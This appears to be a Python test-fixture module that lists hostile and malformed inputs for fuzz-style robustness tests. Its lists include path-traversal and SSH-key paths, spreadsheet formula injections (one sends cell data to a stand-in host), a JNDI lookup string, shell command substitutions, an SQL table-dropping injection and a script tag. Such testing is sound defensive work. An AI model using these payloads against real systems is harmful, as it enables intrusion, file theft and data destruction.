"""Single values that nobody should write into a case, and bytes that are no text."""

from __future__ import annotations

from random import Random

from tests.hostile.seeds import WORD

IDS = [
    *("../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "/dev/stdin", "~/.ssh/id_rsa", "file:///etc/passwd"),
    *("CON", "NUL", "aux", "con.yaml", "C:\\x", ".", "..", "-rf", "--help", "a/b", "a\\b", "a.b", "a b", "a\nb"),
    *("__class__", "__init__", "constructor", "self", "None", "null", "all", "else", "judgement", "best", "label"),
    *("a\u202eb", "\u200fa", "a\u200bb", "\ufeffa", "аctor", "İ", "ß", "ﬀ", "e\u0301", "🕊", "\ue000", "\U0010ffff"),
    *("a" * 64, "a" * 65, "A" * 300, "a" * 100_000, "\u0300" * 2000, "_", "9a", "", " ", "\t"),
]
"""What may stand where an id is expected."""

TEXTS = [
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3", "\t=1"),
    *("%s%n%x", "{0.__class__}", "${jndi:ldap://x}", "`id`", "$(id)", "'; DROP TABLE cases; --", "<script>1</script>"),
    *(
        "\x1b[31mred",
        "\x1b]0;title\x07",
        "\x07",
        "\x08\x08",
        "\r",
        "\u2028",
        "\u2029",
        "\x85",
        "\x00",
        "\x7f",
        "\ufffe",
    ),
    *(
        "]]>",
        "&amp;",
        "&#0;",
        "&#x1b;",
        "<!--",
        "?>",
        '"',
        "'",
        ",",
        ";",
        "#",
        ":",
        "- ",
        "|",
        ">",
        "{",
        "}",
        "[",
        "*a",
    ),
    *("x" * 5000, "y " * 20_000, "\n" * 300, "_x0000_", "_xD800_", "_x005F_"),
    f"{WORD} said so",
]
"""Texts that something along the way may take for more than text."""

NUMBERS = [
    *(-1, 101, 0.5, 1e308, -1e308, 5e-324, 10**18, 10**400, -(10**4000), 2**63, 2**64, 9007199254740993),
    *(float("nan"), float("inf"), float("-inf"), -0.0, True, False, 1357913579, -0.13579),
]
"""Numbers out of range, beyond what fits, or none."""

WORDED = [
    *(".nan", ".inf", "-.inf", "NaN", "Infinity", "-Infinity", "inf", "nan", "1e999", "-1e999", "1e-999", "9" * 400),
    *("9" * 5000, "0x" + "f" * 400, "0o777", "0b11", "1_000", "1,5", "1.5.5", "12:30:45", "1e", "e5", "--1", "+-1"),
    *(
        "½",
        "٣",
        "１２",
        "1 000",
        "1\u00a0000",
        "50%",
        "?",
        "??",
        "~",
        "null",
        "yes",
        "TRUE",
        "2014-13-45",
        "2014-02-30",
    ),
    *("9999-12-31", "0000-00-00", "10000-01-01", "2014-01-28T25:00", "#REF!", "#N/A", "-", ".", "0x", "1/0", "1,234.5"),
]
"""Words that look like numbers or days, or stand for none."""

CONTROL = [
    *(b"\0", b"\x07", b"\x08", b"\x1b[31m", b"\x1b]0;x\x07", b"\x7f", b"\x0b", b"\x0c", b"\r", b"\xef\xbb\xbf"),
    *(b"\xff", b"\xfe", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xb0\x80", b"\xf5\x80\x80\x80", b"\xe9"),
    *(
        b"\xc2\x85",
        b"\xe2\x80\xa8",
        b"\xe2\x80\xae",
        b"\xe2\x80\x8f",
        b"\xef\xbf\xbe",
        b"\xee\x80\x80",
        b"\xf4\x8f\xbf\xbf",
    ),
]
"""Bytes that are no text, or text that shows as something else."""

STARTS = [
    *(b"%PDF-1.7\n", b"{\\rtf1 ", b"MZ\x90\x00", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x03\x04", b"\x1f\x8b\x08"),
    *(
        b"\x89PNG\r\n\x1a\n",
        b"<!DOCTYPE html><html>",
        b"#!/bin/sh\nid\n",
        b"SQLite format 3\0",
        b"\xff\xfe",
        b"\xfe\xff",
    ),
    *(
        b"sep=;\n",
        b"%YAML 9.9\n---\n",
        b"<?xml version='1.0'?>",
        b"---\n",
        b"...\n",
        b"version https://git-lfs.example\n",
    ),
]
"""How files of other kinds begin."""


def anything(chance: Random) -> object:
    """Some plain value that is wrong almost everywhere."""
    kind = chance.randrange(8)
    if kind == 0:
        return chance.choice(NUMBERS)
    if kind == 1:
        return chance.choice(IDS)
    if kind == 2:
        return chance.choice(TEXTS)
    if kind == 3:
        return chance.choice(WORDED)
    if kind == 4:
        return [anything(chance) for _ in range(chance.randrange(4))]
    if kind == 5:
        keys = ["id", "best", "low", "high", "all", "any", "of", "quota", "label", "unknown", "experts", "x", *IDS]
        return {chance.choice(keys): anything(chance) for _ in range(chance.randrange(4))}
    if kind == 6:
        return nested(chance.choice([5, 38, 45, 80]), chance)
    return None


def nested(depth: int, chance: Random) -> object:
    """A list or mapping in a list or mapping, and so on."""
    found: object = 1
    for _ in range(depth):
        found = [found] if chance.random() < 0.5 else {chance.choice(["all", "any", "x"]): [found]}
    return found


def word(chance: Random) -> str:
    """Some text for a place that holds one value: an id, a text, a number or what looks like one."""
    found = chance.choice([*IDS, *TEXTS, *WORDED, *NUMBERS])
    return "9" * 4000 if isinstance(found, int) and abs(found) > 10**300 else str(found)
